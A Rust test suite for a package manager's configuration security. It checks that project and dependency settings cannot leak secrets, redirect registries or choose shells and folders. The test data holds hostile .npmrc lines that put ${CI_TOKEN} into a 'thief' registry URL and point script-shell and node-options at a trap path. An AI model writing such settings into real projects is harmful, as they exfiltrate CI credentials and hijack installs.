//! Group CFG of the attacks: what settings of others cannot do. Cases 05, 11, 12, 17 and 22 stand beside the code of the
//! network.

use std::{fs::Permissions, os::unix::fs::PermissionsExt as _};

use pkg_registry_fixtures::FixtureServer;
use serde_json::json;

use crate::support::{Ran, Sandbox, served, server};

const SECRET: &str = "a-token-of-the-user";

fn install(sandbox: &Sandbox) -> Ran {
    sandbox.pkg(&["install"]).env("CI_TOKEN", SECRET).run()
}

/// Whether anything of the secret reached a server: in a path, or in a header.
fn knows_secret(server: &FixtureServer) -> bool {
    server
        .requests()
        .iter()
        .any(|request| format!("{request:?}").contains(SECRET))
}

#[test]
fn cfg_01_a_projects_registry_sends_no_variable() {
    let (own, thief) = (server(), server());
    let sandbox = served(&own, &[("greet", "1")]);
    for (file, text) in [
        (
            ".npmrc",
            format!("registry={}${{CI_TOKEN}}/\n", thief.url()),
        ),
        (
            "pnpm-workspace.yaml",
            format!("registries:\n  default: {}${{CI_TOKEN}}/\n", thief.url()),
        ),
    ] {
        sandbox.write(file, text);
        let ran = install(&sandbox);
        assert_eq!(ran.error_code(), Some("ERR_PKG_NPMRC"), "{ran}");
        sandbox.remove(file);
    }
    let manifest = json!({
        "name": "app", "dependencies": {"greet": "1"},
        "pkg": {"registry": format!("{}${{CI_TOKEN}}/", thief.url())},
    });
    sandbox.set_manifest(&manifest);
    let ran = install(&sandbox);
    assert_eq!(ran.error_code(), Some("ERR_PKG_NPMRC"), "{ran}");
    assert_eq!((thief.requests(), own.requests()), (vec![], vec![]));
}

#[test]
fn cfg_02_a_projects_credential_reads_no_variable() {
    let thief = server();
    let sandbox = Sandbox::with_dependencies(&[("greet", "1")]);
    let (url, address) = (thief.url(), thief.address());
    for field in ["_authToken", "_auth", "_password"] {
        sandbox.write(
            ".npmrc",
            format!(
                "registry={url}\n//{address}/:username=u\n//{address}/:{field}=${{CI_TOKEN}}\n"
            ),
        );
        install(&sandbox);
    }
    assert!(!thief.requests().is_empty());
    assert!(!knows_secret(&thief));
    let has_any =
        |request: &pkg_registry_fixtures::SeenRequest| request.header("authorization").is_some();
    assert!(!thief.requests().iter().any(has_any));
}

#[test]
fn cfg_03_a_users_file_reads_variables() {
    let own = server();
    let sandbox = Sandbox::with_dependencies(&[("greet", "1")]);
    let address = own.address();
    sandbox.set_user_settings(&format!(
        "registry=http://${{WHERE}}/\n//{address}/:_authToken=${{CI_TOKEN}}\n"
    ));
    let ran = sandbox
        .pkg(&["install"])
        .env("CI_TOKEN", SECRET)
        .env("WHERE", address.to_string())
        .run();
    assert_eq!(ran.code, 0, "{ran}");
    let bearer = format!("Bearer {SECRET}");
    let is_sent = |request: &pkg_registry_fixtures::SeenRequest| {
        request.header("authorization") == Some(&bearer)
    };
    assert!(own.requests().iter().all(is_sent));
}

#[test]
fn cfg_04_a_token_without_a_registry_does_not_follow_the_projects_choice() {
    let thief = server();
    let sandbox = Sandbox::with_dependencies(&[("greet", "1")]);
    sandbox.write(".npmrc", format!("registry={}\n", thief.url()));
    for user in [
        format!("_authToken={SECRET}\n"),
        format!("registry=https://own.example.test/\n_authToken={SECRET}\n"),
    ] {
        sandbox.set_user_settings(&user);
        install(&sandbox);
    }
    assert!(!thief.requests().is_empty());
    assert!(!knows_secret(&thief));
}

#[test]
fn cfg_10_an_internal_name_is_asked_of_its_registry_alone() {
    let (own, public) = (server(), server());
    public.publish("internal-thing", "99.0.0", json!({}), &[]);
    let sandbox = served(&own, &[("internal-thing", "*")]);
    let ran = sandbox.run(&["install"]);
    assert_eq!(ran.code, 1, "{ran}");
    assert_eq!(public.requests(), vec![]);
    // Nor is a scope's package asked of the default registry.
    public.publish("@ours/thing", "99.0.0", json!({}), &[]);
    sandbox.set_user_settings(&format!(
        "registry={}\n@ours:registry={}\nfetch-retries=0\n",
        public.url(),
        own.url()
    ));
    sandbox.set_dependencies(&[("@ours/thing", "*")]);
    let ran = sandbox.run(&["install"]);
    assert_eq!(ran.code, 1, "{ran}");
    assert_eq!(public.requests(), vec![]);
    assert_eq!(own.count("/@ours%2fthing"), 1);
}

#[test]
fn cfg_13_a_project_chooses_no_programs_and_no_folders_of_the_machine() {
    let own = server();
    let sandbox = served(&own, &[("greet", "1")]);
    let keys = [
        "git",
        "shell",
        "script-shell",
        "node-options",
        "prefix",
        "store-dir",
        "cache-dir",
        "userconfig",
        "globalconfig",
        "cache",
    ];
    let trap = sandbox.beside("trap");
    let lines = keys.map(|key| format!("{key}={}\n", trap.display()));
    sandbox.write(".npmrc", lines.concat());
    let ran = sandbox.run(&["install"]);
    assert_eq!(ran.code, 0, "{ran}");
    for key in keys {
        assert!(
            ran.stderr.contains(&format!("may not set `{key}`")),
            "{key}: {ran}"
        );
    }
    assert!(!trap.exists());
    // Nor by the other files of a project.
    sandbox.remove(".npmrc");
    sandbox.write(
        "pnpm-workspace.yaml",
        "storeDir: ../trap\nscriptShell: ../trap\n",
    );
    let ran = sandbox.run(&["install"]);
    assert_eq!(ran.stderr.matches("may not set").count(), 2, "{ran}");
    assert!(!trap.exists());
}

#[test]
fn cfg_14_settings_of_a_dependency_are_never_read() {
    let (own, thief) = (server(), server());
    let npmrc = format!("registry={}\nlayout=flat\n", thief.url());
    own.publish(
        "trap",
        "1.0.0",
        json!({"dependencies": {"greet": "1"}, "pkg": {"layout": "flat"}}),
        &[(".npmrc", &npmrc), ("pnpm-workspace.yaml", "a: *b\n")],
    );
    let sandbox = served(&own, &[("trap", "1")]);
    let ran = sandbox.run(&["install"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{ran}");
    assert_eq!(thief.requests(), vec![]);
    let is_link = sandbox
        .path("node_modules/trap")
        .symlink_metadata()
        .unwrap()
        .is_symlink();
    assert!(is_link);
}

#[test]
fn cfg_15_a_malformed_credential_is_told_and_not_sent() {
    let own = server();
    let sandbox = Sandbox::with_dependencies(&[("greet", "1")]);
    let (url, address) = (own.url(), own.address());
    for bad in ["not-base64!", "bm9jb2xvbg==", "\u{e9}"] {
        own.forget_requests();
        sandbox.set_user_settings(&format!("registry={url}\n//{address}/:_auth={bad}\n"));
        let ran = sandbox.run(&["install", "--force"]);
        assert!(ran.stderr.contains("_auth` in"), "{bad}: {ran}");
        assert!(!ran.to_string().contains(bad), "{ran}");
        let requests = own.requests();
        assert!(
            requests
                .iter()
                .all(|it| it.header("authorization").is_none())
        );
    }
    // Without padding and in quotes it is what it was meant to be.
    for good in ["dTpw", "\"dTpw\"", "dTpwdw"] {
        own.forget_requests();
        sandbox.set_user_settings(&format!("registry={url}\n//{address}/:_auth={good}\n"));
        std::fs::remove_dir_all(sandbox.pkg_home("")).unwrap();
        let ran = sandbox.run(&["install", "--force"]);
        assert_eq!(ran.code, 0, "{ran}");
        assert!(
            own.requests()[0].header("authorization").is_some(),
            "{good}"
        );
    }
}

#[test]
fn cfg_18_secrets_are_masked_where_settings_are_shown() {
    let sandbox = Sandbox::with_manifest(&json!({"name": "app"}));
    sandbox.set_user_settings(&format!(
        "registry=https://registry.example.test/\n//registry.example.test/:_authToken={SECRET}\n\
         //other.example.test/:_password={SECRET}\n//other.example.test/:key={SECRET}\n_auth={SECRET}\n\
         https-proxy=http://me:{SECRET}@proxy.example.test/\n@s:registry=https://u:{SECRET}@s.example.test/\n\
         //third.example.test/:_authToken=${{CI_TOKEN}}\n"
    ));
    for words in [
        vec!["config", "list"],
        vec!["config", "list", "--json"],
        vec!["config", "list", "--all"],
        vec!["config", "get", "//registry.example.test/:_authToken"],
        vec!["config", "get", "https-proxy", "_auth", "--json"],
        vec!["config", "why", "https-proxy", "//other.example.test/:key"],
        vec![
            "config",
            "why",
            "//third.example.test/:_authToken",
            "--json",
        ],
    ] {
        let ran = sandbox.pkg(&words).env("CI_TOKEN", SECRET).run();
        let text = ran.to_string();
        assert!(!text.contains(SECRET), "{text}");
        assert!(text.contains("(protected)") || ran.code == 1, "{text}");
    }
}

#[test]
fn cfg_20_a_settings_file_that_is_no_file_fails_at_once() {
    let sandbox = Sandbox::with_manifest(&json!({"name": "app"}));
    for name in [".npmrc", "pnpm-workspace.yaml", "package.json"] {
        let path = sandbox.path(name);
        let before = std::fs::read(&path).ok();
        std::fs::remove_file(&path).ok();
        make_fifo(&path);
        let ran = sandbox.run(&["install"]);
        assert_eq!(
            (ran.code, ran.error_code()),
            (1, Some("ERR_PKG_FS_NOT_REGULAR")),
            "{ran}"
        );
        std::fs::remove_file(&path).unwrap();
        std::fs::create_dir(&path).unwrap();
        let ran = sandbox.run(&["install"]);
        assert_eq!(ran.code, 1, "{ran}");
        assert!(
            ran.error_code().unwrap().starts_with("ERR_PKG_FS_"),
            "{ran}"
        );
        std::fs::remove_dir(&path).unwrap();
        // A hole of 2 GB is not read.
        let file = std::fs::File::create(&path).unwrap();
        file.set_len(2 << 30).unwrap();
        let ran = sandbox.run(&["install"]);
        assert_eq!(
            (ran.code, ran.error_code()),
            (1, Some("ERR_PKG_FS_TOO_LARGE")),
            "{ran}"
        );
        std::fs::remove_file(&path).unwrap();
        if let Some(before) = before {
            std::fs::write(&path, before).unwrap();
        }
    }
}

fn make_fifo(path: &std::path::Path) {
    let made = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(made.success());
}

#[test]
fn cfg_21_odd_files_say_what_they_say_to_npm() {
    let sandbox = Sandbox::with_manifest(&json!({"name": "app"}));
    sandbox.write(
        ".npmrc",
        "\u{feff}fetch-retries=1\r\n; layout=flat\r\nfetch-timeout = 9 # not 8\r\n\
         public-hoist-pattern[]=x*\r\npublic-hoist-pattern[]=\"y*\"\r\nfetch-retries=3\r\n\
         hoist-pattern=a=b\r\n[section]\r\nlayout=nested\r\n",
    );
    let list = sandbox.run(&["config", "list", "--all", "--json"]).json();
    let value = |key: &str| list[key]["value"].as_str().unwrap().to_owned();
    assert_eq!(value("fetch-retries"), "3");
    assert_eq!(value("fetch-timeout"), "9");
    assert_eq!(value("public-hoist-pattern"), "x*,y*");
    assert_eq!(value("layout"), "isolated");
    assert_eq!(value("hoist-pattern"), "a=b");
}

#[test]
fn cfg_23_a_credential_in_the_clear_needs_the_users_word() {
    let sandbox = Sandbox::with_dependencies(&[("greet", "1")]);
    sandbox.set_user_settings(&format!(
        "//registry.example.test/:_authToken={SECRET}\nfetch-retries=0\n"
    ));
    sandbox.write(".npmrc", "registry=http://registry.example.test/\n");
    let ran = sandbox.run(&["install", "--offline"]);
    assert_eq!(ran.code, 1, "{ran}");
    assert!(
        ran.stderr
            .contains("no credential is sent to http://registry.example.test/"),
        "{ran}"
    );
}

#[test]
fn cfg_27_a_mistake_in_the_name_of_a_guard_is_an_error() {
    let sandbox = Sandbox::with_manifest(&json!({"name": "app"}));
    for (file, text) in [
        (".npmrc", "minimum-relase-age=5000\n"),
        (".npmrc", "stict-ssl=true\n"),
        ("pnpm-workspace.yaml", "minimumReleaseAgee: 5000\n"),
    ] {
        sandbox.write(file, text);
        let ran = sandbox.run(&["install"]);
        assert_eq!(
            (ran.code, ran.error_code()),
            (1, Some("ERR_PKG_UNKNOWN_SETTING")),
            "{ran}"
        );
        assert!(ran.stderr.contains("did you mean `"), "{ran}");
        sandbox.remove(file);
    }
    let ran = sandbox.run(&["install", "--config.ignore-scirpts=true"]);
    assert_eq!(ran.error_code(), Some("ERR_PKG_UNKNOWN_SETTING"), "{ran}");
    let ran = sandbox
        .pkg(&["install"])
        .env("PKG_CONFIG_IGNORE_SCRIPT", "true")
        .run();
    assert_eq!(ran.error_code(), Some("ERR_PKG_UNKNOWN_SETTING"), "{ran}");
}

#[test]
fn unknown_settings_are_told_and_those_of_others_are_not() {
    let sandbox = Sandbox::with_manifest(&json!({"name": "app"}));
    sandbox.write(
        ".npmrc",
        "fetch-retrys=1\ninit-license=MIT\nelectron-mirror=x\n",
    );
    sandbox.write("pnpm-workspace.yaml", "nonsense: 1\nsavePrefix: ''\n");
    let ran = sandbox
        .pkg(&["install"])
        .env("PKG_CONFIG_PATH", "/usr/lib/pkgconfig")
        .env("npm_config_node_gyp", "x")
        .env("npm_config_user_agent", "x")
        .run();
    assert_eq!(ran.code, 0, "{ran}");
    assert_eq!(ran.stderr.lines().count(), 2, "{ran}");
    assert!(
        ran.stderr.contains("did you mean `fetch-retries`?"),
        "{ran}"
    );
    assert!(ran.stderr.contains("`nonsense`"), "{ran}");
}

#[test]
fn cfg_19_credentials_that_others_can_read_are_told() {
    let sandbox = Sandbox::new();
    let file = sandbox.beside("home/.npmrc");
    let text = format!("//registry.example.test/:_authToken={SECRET}\n");
    sandbox.set_user_settings(&text);
    let set_mode = |mode| std::fs::set_permissions(&file, Permissions::from_mode(mode)).unwrap();
    set_mode(0o644);
    let told = sandbox.run(&["config", "list"]);
    assert_eq!(told.code, 0, "{told}");
    assert!(
        told.stderr
            .contains("warning: others on this machine can read the credentials in `"),
        "{told}"
    );
    assert!(!told.to_string().contains(SECRET), "{told}");
    set_mode(0o600);
    assert_eq!(sandbox.run(&["config", "list"]).stderr, "");
    // Without a credential the file is nobody's secret.
    sandbox.set_user_settings("//registry.example.test/:_authToken=${NONE}\n");
    set_mode(0o644);
    assert!(!sandbox.run(&["config", "list"]).stderr.contains("chmod"));
}
